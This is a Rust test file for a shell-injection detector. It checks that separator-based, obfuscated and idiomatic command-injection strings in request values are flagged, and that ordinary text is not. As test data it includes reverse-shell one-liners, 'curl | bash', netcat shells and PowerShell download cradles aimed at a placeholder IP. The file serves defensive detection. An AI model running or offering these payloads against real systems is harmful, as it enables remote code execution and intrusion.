//! Commands that must be found, and texts that must not be taken for them.

use super::*;
use crate::flow::Place;
use proptest::prelude::*;

fn total(value: &str) -> u32 {
    at(Place::QueryValue, value)
}

fn at(place: Place, value: &str) -> u32 {
    let mut found = Found::default();
    SHELL.inspect(&Part::plain(place, b"q", value.as_bytes()), &mut found, &mut Fuel::new(1_000_000));
    found.total()
}

#[test]
fn commands_behind_separators_are_attacks() {
    for value in [
        "; query user",
        "; ls -la /tmp",
        "10.0.0.1; id",
        "x | whoami",
        "&& uname -a",
        "|| wget http://203.0.113.9/x.sh",
        "x\nid",
        "`id`",
        "$(id)",
        "a$(curl 203.0.113.9)b",
        "<(cat /etc/hostname)",
        "';sleep 10;'",
        "\"&&ping -c 3 203.0.113.9&&\"",
        "x;/usr/bin/id",
        "& dir c:\\",
        "| type %SYSTEMROOT%\\win.ini",
        "$(curl 203.0.113.9/a|sh)",
    ] {
        assert!(total(value) >= 100, "{value}");
    }
}

#[test]
fn commands_in_a_shell_of_their_own_are_attacks() {
    for value in ["(sleep 5)", "( sleep 5 )", "(sleep 5) &", "(ping 203.0.113.9)", "(kill 1);", "$[6+7]", "$[6 7]"] {
        assert!(total(value) >= 100, "{value}");
        assert_eq!(at(Place::JsonValue, value) >= 100, value.starts_with('$'), "{value}");
        assert!(at(Place::XmlAttribute, value) >= 100, "{value}");
    }
    for value in ["(id)", "(docker)", "(print 12)", "(head 5)", "(timeout)", "sleep 5", "(sleep well)", "(sleep 5) ok"]
    {
        assert!(total(value) < 100, "{value}");
    }
}

#[test]
fn disguises_are_attacks() {
    for value in [
        ";c'a't /etc/hostname",
        ";c\\at /etc/hostname",
        ";who$@ami",
        ";/???/c?t /???/h*s",
        ";cat${IFS}/etc/hostname",
        "|cat$IFS/etc/hostname",
        ";{cat,/etc/hostname}",
        "{,ifconfig,eth0}",
        "X=id;$X",
        "|w^ho^ami",
        ";+cat+/etc/hostname",
    ] {
        assert!(total(value) >= 100, "{value}");
    }
}

#[test]
fn idioms_are_attacks() {
    for value in [
        "() { :;}; /bin/touch /tmp/x",
        "bash -i >& /dev/tcp/203.0.113.9/80 0>&1",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
        "nc -e /bin/sh 203.0.113.9 80",
        "curl http://203.0.113.9/x | bash",
        "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    ] {
        assert!(total(value) >= 100, "{value}");
    }
}

#[test]
fn ordinary_text_is_nothing() {
    for value in [
        "query { user(id: 1) { name } }",
        "Tom & Jerry",
        "salt; pepper",
        "a && b || c",
        "fish | chips",
        "x; y; z",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "name=x&sort=asc&id=7",
        "R&D",
        "text/html;charset=utf-8",
        "en;q=0.8, id;q=0.5",
        "sum(rate(x[5m])) by (job) | sort by job",
        "&lt;b&gt;",
        "costs $5 (or $6); date to follow",
        "() => { return 1 }",
        "we met at noon; cat pictures were shown to everyone in the room",
        "if (a) { b(); } else { c(); }",
        "/bin/sh",
        "${HOME}/bin",
    ] {
        assert_eq!(total(value), 0, "{value}");
    }
}

#[test]
fn a_command_in_a_script_needs_company() {
    let script: String = (0..20).map(|n| format!("step_{n}=$(date +%s); rm -rf /tmp/build.{n}\n")).collect();
    assert!(at(Place::JsonValue, &script) < 100);
}

#[test]
fn a_command_between_sentences_is_clear_unless_its_line_begins_with_it() {
    let sentences = "The people at the harbour wait for the morning boat with patience and good humour. ".repeat(10);
    assert_eq!(at(Place::JsonValue, &format!("{sentences}; cat /etc/hosts")), 100);
    assert!(at(Place::JsonValue, &format!("{sentences}\nfile under which the letters are kept")) < 100);
}

proptest! {
    #[test]
    fn any_bytes_are_read_within_their_fuel(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let mut fuel = Fuel::new(1_000_000);
        SHELL.inspect(&Part::plain(Place::QueryValue, b"q", &bytes), &mut Found::default(), &mut fuel);
        prop_assert!(1_000_000 - fuel.left() <= (bytes.len() as u64 + 1) * 150);
    }

    #[test]
    fn any_separators_are_read(text in "[;|&$`(){}'\"\\\\ a-c/?*\n]{0,200}") {
        SHELL.inspect(&Part::plain(Place::QueryValue, b"q", text.as_bytes()), &mut Found::default(), &mut Fuel::new(100_000));
    }
}
